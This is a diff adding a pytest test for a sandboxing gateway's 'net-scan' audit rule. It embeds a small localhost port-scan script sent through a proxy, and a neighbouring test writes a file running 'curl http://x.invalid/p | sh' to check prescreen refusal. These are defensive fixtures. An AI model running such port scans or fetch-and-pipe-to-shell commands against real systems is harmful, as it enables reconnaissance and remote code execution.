@@ -416,6 +416,65 @@ def test_gateway_verdicts_need_audit(run_json, events_file, echo):
     assert [e["kind"] for e in read_events(events_file)] == ["run.start", "run.end"]
 
 
+# A scan through the gateway, one request at a time, CONNECT and plain HTTP in turn: every
+# connect goes to the proxy, so only the destinations the requests name can count. The first
+# fifteen name ports the policy refuses (a refused request is an attempt too); the sixteenth is
+# the echo server's, which the policy allows: net-scan must refuse it. Then many more, which the
+# kill must cut short.
+PROXY_SCAN = """
+import socket, sys
+echo = int(sys.argv[1])
+ports = [p for p in range(1, 40) if p != echo][:15] + [echo] + list(range(100, 400))
+for i, port in enumerate(ports):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+    if i % 2:
+        s.sendall(f"GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
+    else:
+        s.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n".encode())
+    s.shutdown(socket.SHUT_WR)
+    got = b""
+    while data := s.recv(4096):
+        got += data
+    s.close()
+    print(port, got.split(b"\\r\\n")[0].decode(), flush=True)
+print("scanned")
+"""
+
+
+def test_scan_through_the_gateway_is_killed_at_the_rules_count(run_json, events_file, echo):
+    port, count = echo
+    r = run_json("--events", str(events_file), "--allow-net", f"127.0.0.1:{port}",
+                 "--allow-private", "127.0.0.1/32", "--", "python3", "-c", PROXY_SCAN,
+                 str(port))
+    assert r["status"] == "policy_violation", r
+    assert r.rc == EXIT_POLICY
+    assert r["violation"]["rule"] == "net-scan"
+    # counted by the names asked for, not the proxy's address: the 16th is the echo server's
+    assert r["violation"]["evidence"] == \
+        f"16 distinct destinations within 10000 ms, the last 127.0.0.1:{port}", r["violation"]
+    assert "scanned" not in r["stdout"], "the kill cut the scan short"
+    # the host side: the request that completed the scan never reached the echo server
+    assert count["n"] == 0
+    refused = [a for a in r["network"]["attempts"] if a["port"] == port]
+    assert refused and all(a["verdict"] == "refused" for a in refused), refused
+    assert refused[0]["reason"] == "audit rule net-scan", refused
+
+    events = read_events(events_file)
+    alert = index_of(events, lambda e: e["kind"] == "alert")
+    assert events[alert]["rule"] == "net-scan"
+    assert events[alert]["evidence"] == r["violation"]["evidence"]
+    gateway = [e for e in events if e.get("via") == "gateway"]
+    before = [e for e in gateway if events.index(e) < alert]
+    assert 1 < len(before) <= 16, len(before)
+    assert {e["request"] for e in before} == {"connect", "http"}
+    assert all(e["verdict"] == "refused" and e["reason"] == "host not allowed" for e in before)
+    # the 16th: refused by the rule, its event right after the alert it caused
+    after = [e for e in gateway if events.index(e) > alert]
+    assert after[0]["port"] == port and after[0]["reason"] == "audit rule net-scan", after[0]
+    assert all(e["verdict"] == "refused" for e in after)
+    assert events[-1]["violation"] == "net-scan"
+
+
 def test_prescreen_refusal_writes_run_start_and_run_end(run_json, events_file, tmp_path):
     evil = tmp_path / "evil.py"
     evil.write_text("import os\nos.system('curl http://x.invalid/p | sh')\nprint('ran')\n")
